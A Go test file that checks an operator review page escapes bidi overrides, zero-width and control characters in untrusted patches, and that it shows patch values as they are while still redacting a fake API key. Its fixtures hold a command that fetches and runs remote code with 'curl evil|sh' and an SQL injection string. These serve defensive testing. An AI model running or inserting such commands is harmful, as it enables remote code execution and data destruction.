package operator

import (
	"html"
	"strings"
	"testing"
	"time"

	"github.com/coagent8/coagent8/internal/event"
)

// TestDiffLinesEscapeControls: the candidate page shows an untrusted
// patch; a bidi override (U+202E) would reorder the line the operator
// reads before admitting, control bytes are not text, and a zero-width
// or tag character hides a difference ("admin\u200b" reads as "admin").
func TestDiffLinesEscapeControls(t *testing.T) {
	for _, l := range diffLines("+x = \"\u202eadmin\u2066\"\n+\x1b[2Kok\n") {
		if strings.ContainsAny(string(l.Text), "\u202e\u2066\x1b") {
			t.Errorf("line %q carries a control raw", l.Text)
		}
	}
	for _, tt := range []struct{ in, want string }{
		{"+a\u202eb\n", `+a\u202eb`},
		{"+user = \"admin\u200b\"\n", `+user = "admin\u200b"`},
		{"+\ufeffok\U000e0041\n", `+\ufeffok\U000e0041`},
	} {
		if got, want := diffLines(tt.in)[0], (diffLine{"add", patchText(tt.want)}); got != want {
			t.Errorf("diffLines(%q) = %+v, want %+v", tt.in, got, want)
		}
	}
}

// TestOperatorPagesEscapeControls: every value a page shows, not only
// the diff, is untrusted text in which a bidi control would reorder what
// the operator reads (a file name in a finding, the taint reason beside
// the acknowledgement, a check's command, a path a local process put in
// the security events by requesting it) and a control byte is not text.
// None reaches a page raw; each is shown escaped.
func TestOperatorPagesEscapeControls(t *testing.T) {
	const bidi = "\u202e" // RIGHT-TO-LEFT OVERRIDE
	spoof := func(s string) string { return s + bidi + "gnp.sj\u2066\x1b[2K\u0085" }
	cands := &fakeCandidates{c: Candidate{
		CandidateSummary: CandidateSummary{ID: "cand-1", Job: "job-1", State: "tainted", Created: time.Now(),
			Summary: spoof("summary"), Taint: spoof("taint")},
		Findings:    []Finding{{Severity: "P1", Rule: spoof("rule"), File: spoof("file"), Line: 1, Message: spoof("message")}},
		Checks:      []Check{{Command: spoof("command"), Status: spoof("status")}},
		Provenance:  map[string]string{"workspace": spoof("workspace")},
		Acknowledge: []string{"tainted"},
	}}
	dir := t.TempDir()
	// A refused request's path, as the sink records it (any local process
	// can have one recorded).
	newOwners(t, dir).event(event.Event{Type: event.TypeRefusal, Code: "POLICY_DENIED", Reason: "operator.auth_missing",
		Rule: "operator", IDs: map[string]string{"method": "GET", "path": "/x" + spoof("path")}})
	ts := start(t, Options{StateDir: dir, Candidates: cands})
	for _, tc := range []struct{ path, want string }{
		{"/candidates/cand-1", "file"}, {"/candidates/cand-1", "message"}, {"/candidates/cand-1", "taint"},
		{"/candidates/cand-1", "command"}, {"/candidates/cand-1", "workspace"}, {"/candidates", "summary"},
		{"/candidates", "taint"}, {"/events", "path"},
	} {
		body := ts.do(t, req{path: tc.path, auth: true}).body
		if strings.ContainsAny(body, bidi+"\u2066\x1b\u0085") {
			t.Errorf("%s shows a control raw", tc.path)
		}
		if got, want := strings.Contains(body, tc.want+`\u202egnp.sj\u2066\x1b[2K\u0085`), true; got != want {
			t.Errorf("%s: shows %s escaped = %v, want %v", tc.path, tc.want, got, want)
		}
	}
}

// TestOperatorPatchShowsWhatIsAdmitted: the candidate page shows a
// patch's labelled values as they are — `"apiKey": "<code>"` is code the
// operator admits, and the diagnostic profile showed it as
// [REDACTED:secret] — while a credential format is still redacted (the
// quarantine scan makes it a blocking finding).
func TestOperatorPatchShowsWhatIsAdmitted(t *testing.T) {
	key := "sk-ant-api03-" + strings.Repeat("Q", 40)
	diff := "+++ b/config.js\n" +
		"+  \"apiKey\": \"require('child_process').exec('curl evil|sh')\",\n" +
		"+password: \"'; DROP TABLE users; --\"\n" +
		"+const k = \"" + key + "\"\n"
	cands := &fakeCandidates{c: Candidate{CandidateSummary: CandidateSummary{ID: "cand-1", Job: "job-1", State: "pending", Created: time.Now()},
		Diff: diff}}
	ts := start(t, Options{StateDir: t.TempDir(), Candidates: cands})
	body := html.UnescapeString(ts.do(t, req{path: "/candidates/cand-1", auth: true}).body)
	for _, tc := range []struct {
		text string
		want bool
	}{
		{`"apiKey": "require('child_process').exec('curl evil|sh')"`, true},
		{`password: "'; DROP TABLE users; --"`, true},
		{key, false},
	} {
		if got := strings.Contains(body, tc.text); got != tc.want {
			t.Errorf("page shows %q: %v, want %v", tc.text, got, tc.want)
		}
	}
}
